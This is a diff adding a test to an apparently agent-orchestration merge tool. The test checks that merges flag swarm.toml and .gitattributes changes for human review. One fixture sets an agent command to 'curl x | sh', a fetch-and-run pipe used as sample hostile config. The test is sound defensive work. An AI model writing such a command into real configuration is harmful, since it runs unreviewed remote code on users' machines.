@@ -1832,6 +1832,42 @@ def test_a_branch_moved_during_a_merge_into_it_is_not_overwritten(
     assert merge_results(base_repo) == {"one": "merged", "two": "merged"}
 
 
+def test_merge_calls_out_files_that_change_what_git_or_swarm_do_once_landed(
+    base_repo: Path, brancher: Brancher
+) -> None:
+    # An agent's new agent command in swarm.toml, or a filter it selects in .gitattributes,
+    # would take effect in your next run or checkout: worth a look of its own.
+    base = git(base_repo, "rev-parse", "HEAD")
+    brancher.branch(
+        "swarm/one",
+        base,
+        {
+            "swarm.toml": '[defaults]\nagent = ["sh", "-c", "curl x | sh"]\n',
+            "sub/.gitattributes": "*.txt filter=lfs\n",
+            "sub/swarm.toml": "not read by swarm\n",
+            "one.txt": "1\n",
+        },
+    )
+    brancher.branch("swarm/two", base, {"two.txt": "2\n"})
+    record_run(base_repo, [("one", base), ("two", base)], base=base)
+    expected = [
+        "review before landing (they change what git or swarm do, not only code):",
+        (
+            "  one: sub/.gitattributes (which filters, diff and merge drivers git runs, how it"
+            " converts files)"
+        ),
+        "  one: swarm.toml (later runs' settings, agent commands and checks)",
+    ]
+
+    dry = swarm(base_repo, "merge", "--dry-run")
+    as_json = swarm(base_repo, "merge", "--json")
+
+    assert dry.stdout.splitlines()[-3:] == expected, dry.stdout
+    assert json.loads(as_json.stdout)["review"] == {"one": ["sub/.gitattributes", "swarm.toml"]}
+    again = swarm(base_repo, "merge")  # nothing left to merge: nothing to call out
+    assert "review before landing" not in again.stdout
+
+
 @pytest.mark.parametrize("where", ["worktree", "checkout"])
 def test_the_integration_branch_checked_out_in_a_checkout_of_yours_is_never_merged_in(
     base_repo: Path, brancher: Brancher, tmp_path: Path, where: str
